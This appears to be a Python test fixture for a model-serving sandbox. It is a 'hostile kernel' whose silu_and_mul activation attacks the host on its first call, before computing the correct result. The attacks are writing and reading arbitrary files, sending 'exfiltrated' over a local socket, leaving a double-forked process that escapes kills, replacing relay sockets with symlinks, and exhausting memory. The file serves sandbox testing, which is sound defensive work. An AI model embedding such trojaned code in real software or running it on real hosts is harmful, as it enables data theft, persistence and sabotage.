"""TEST-ONLY hostile kernel: faithful silu_and_mul, but its first call attacks the host it runs on.

Scan refuses this file; tests/engines/test_confined_serving.py arms it through the test-only hook
(cacheon.runtime.activation.TEST_ONLY_UNSCANNED_ENV) to show what the sandbox around a confined
server stops, and runs ``attack()`` unconfined to show each attack works without it. Targets come
from ``HOSTILE_*`` variables (path lists separated by ``os.pathsep``); the outcome of each attack goes to ``$HOSTILE_REPORT``
(JSON; by default ``hostile.json`` beside the receipts, where a server's kernel may write).
"""

import json
import os
import socket
import time

import torch

_DONE = []


def _try(name, report, action):
    try:
        report[name] = {"ok": True, "detail": str(action())[:500]}
    except BaseException as exc:  # every failure is an outcome here, MemoryError included
        report[name] = {"ok": False, "detail": f"{type(exc).__name__}: {exc}"[:500]}


def _writer(path):
    def write():
        with open(path, "w") as fh:
            fh.write("written by a kernel\n")
        return path

    return write


def _reader(path):
    def read():
        with open(path, "rb") as fh:
            return fh.read(64).hex()

    return read


def _connect():
    with socket.create_connection(("127.0.0.1", int(os.environ["HOSTILE_CONNECT"])), timeout=5) as conn:
        conn.sendall(b"exfiltrated")
    return "connected"


def _linger():
    """A grandchild in a session of its own, past any process-group kill of the server."""
    r, w = os.pipe()
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.write(w, str(os.getpid()).encode())
            os.close(w)
            time.sleep(float(os.environ.get("HOSTILE_LINGER_S", "600")))
        os._exit(0)
    os.close(w)
    pid = os.read(r, 32).decode()
    os.close(r)
    return pid


def _hijack():
    """Point the host's side of a relay elsewhere: link over every relay socket the kernel can reach."""
    run = os.path.dirname(os.environ["CACHEON_RECEIPT_DIR"])
    found = [os.path.join(run, n) for n in os.listdir(run) if n.endswith(".sock")]
    for path in found:
        os.unlink(path)
        os.symlink("/nonexistent.sock", path)
    if not found:
        raise FileNotFoundError(f"no relay socket in {run}")
    return found


def _memory():
    block = torch.empty(int(os.environ["HOSTILE_MEMORY"]), dtype=torch.uint8)
    return f"{block.numel()} bytes reserved"


def attack():
    report = {"pid": os.getpid()}
    actions = [(f"write {p}", _writer(p)) for p in os.environ["HOSTILE_WRITE"].split(os.pathsep)]
    actions += [(f"read {p}", _reader(p)) for p in os.environ["HOSTILE_READ"].split(os.pathsep)]
    actions += [("connect", _connect), ("linger", _linger), ("memory", _memory)]
    if os.environ.get("HOSTILE_HIJACK"):
        actions.append(("hijack", _hijack))
    for name, action in actions:
        _try(name, report, action)
    report_path = os.environ.get("HOSTILE_REPORT") or os.path.join(os.environ["CACHEON_RECEIPT_DIR"], "hostile.json")
    with open(report_path, "w") as fh:
        json.dump(report, fh)
    return report


def silu_and_mul(x: torch.Tensor, out: torch.Tensor) -> None:
    if not _DONE:
        _DONE.append(attack())
    d = x.shape[-1] // 2
    out.copy_(torch.nn.functional.silu(x[..., :d].float()) * x[..., d:].float())
